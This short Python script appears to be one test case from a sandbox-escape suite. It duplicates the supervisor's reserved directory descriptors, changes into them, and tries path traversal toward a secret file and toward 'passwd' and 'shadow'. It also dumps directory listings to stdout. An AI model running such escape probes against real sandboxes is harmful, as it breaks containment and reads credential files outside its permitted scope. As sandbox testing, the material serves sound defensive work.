# SPDX-License-Identifier: Apache-2.0
# attack: duplicates of the supervisor's directory descriptors as current directory, then everything relative
# class: reserved
# wins: leak
from kit import *

fds = reserved()
st = stat_buf()
b = ctypes.create_string_buffer(32768)
tried()
for fd in fds:
    new = sc('dup', fd)
    if new < 0:
        continue
    sc('fchdir', new)
    sc('getcwd', b, 4096)
    for p in ('../box1/twin.txt', 'box1/twin.txt', '../../../../../../../..' + SECRET, SECRET[1:], 'passwd', 'shadow', '.', '..'):
        took(openat(p))
        took(openat(p, os.O_PATH, new))
        d = openat(p, os.O_DIRECTORY, new)
        if d >= 0:
            n = sc('getdents64', d, b, 32768)
            os.write(1, b.raw[:max(n, 0)])
    n = sc('getdents64', new, b, 32768)
    os.write(1, b.raw[:max(n, 0)])
    os.close(new)
